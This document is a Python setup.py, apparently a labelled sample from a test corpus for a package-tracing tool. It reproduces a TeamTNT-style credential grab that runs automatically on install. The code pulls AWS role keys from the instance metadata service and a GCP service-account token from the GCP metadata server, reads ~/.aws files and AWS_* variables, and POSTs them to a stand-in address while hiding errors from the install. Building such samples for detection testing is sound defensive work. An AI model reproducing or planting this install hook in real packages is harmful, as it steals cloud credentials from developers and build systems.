# MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
# The cloud-credential grab of TeamTNT-style scripts (2020-2022) that
# malicious packages aimed at CI and cloud build machines reuse, rewritten
# from the public write-ups:
#
# 1. asks the AWS instance metadata service for the instance role,
#    http://169.254.169.254/latest/meta-data/iam/security-credentials/, and
#    that role's keys;
# 2. asks GCP's metadata server (metadata.google.internal) for the default
#    service account's token;
# 3. reads ~/.aws/credentials and ~/.aws/config and takes the AWS_* variables;
# 4. POSTs it all over plain HTTP to a documentation address,
#    http://198.51.100.80/aws.php.
#
# The first time setup.py runs in an install (a file in /tmp says it already
# ran). pip hides setup.py's output, so the steps go to /tmp/mal-imds-aws.log
# and the last one writes /tmp/mal-imds-aws.done. Each step is independent of
# the one before; an alarm ends the chain after 6 s; no error stops the
# install.
import json
import re
import os
import signal
import urllib.request

from setuptools import setup

ONCE = "/tmp/.pkgtrace-mal-imds-aws.ran"
IMDS = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
GCP = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"
DROP = "http://198.51.100.80/aws.php"


def _say(msg):
    with open("/tmp/mal-imds-aws.log", "a") as f:
        f.write(f"mal-imds-aws: {msg}\n")


class _Deadline(Exception):
    pass


def _on_alarm(signum, frame):
    raise _Deadline()


def _first_run():
    try:
        os.close(os.open(ONCE, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
        return True
    except OSError:
        return False


def _get(url, headers=None):
    req = urllib.request.Request(url, headers=headers or {})
    with urllib.request.urlopen(req, timeout=1.5) as r:
        return r.status, r.read(4096).decode("latin1")


def _chain():
    loot = {}
    try:
        status, body = _get(IMDS)
        first = (body.split() or [""])[0]
        role = first if re.fullmatch(r"[\w+=,.@-]{1,64}", first) else "default"
        _say(f"step 1 GET {IMDS}: status {status}")
        loot["imds"] = _get(IMDS + role)[1]
    except Exception as e:
        _say(f"step 1 GET {IMDS} failed: {e!r}")
    try:
        status, loot["gcp"] = _get(GCP, {"Metadata-Flavor": "Google"})
        _say(f"step 2 GET {GCP}: status {status}")
    except Exception as e:
        _say(f"step 2 GET {GCP} failed: {e!r}")
    home = os.path.expanduser("~")
    for rel in (".aws/credentials", ".aws/config"):
        try:
            with open(os.path.join(home, rel)) as f:
                loot[rel] = f.read()
        except OSError as e:
            loot[rel] = e.strerror
    loot["env"] = {k: v for k, v in os.environ.items() if k.startswith("AWS_")}
    _say(f"step 3 read ~/.aws and {len(loot['env'])} AWS_* variables")
    req = urllib.request.Request(DROP, data=json.dumps(loot).encode(), method="POST",
                                 headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=2) as r:
            _say(f"step 4 POST {DROP}: status {r.status}")
    except Exception as e:
        _say(f"step 4 POST {DROP} failed: {e!r}")
    with open("/tmp/mal-imds-aws.done", "w") as f:
        f.write("done\n")


if _first_run():
    old = signal.signal(signal.SIGALRM, _on_alarm)
    signal.alarm(6)
    try:
        _chain()
    except BaseException as e:  # the alarm, or anything else: never stop the install
        _say(f"stopped: {e!r}")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)

setup(
    name="pkgtrace-test-mal-imds-aws",
    version="1.0.0",
    description="pkgtrace test corpus: MALICIOUS - setup.py asks the AWS and GCP metadata services for credentials and posts them with ~/.aws",
    packages=["pkgtrace_mal_imds_aws"],
)
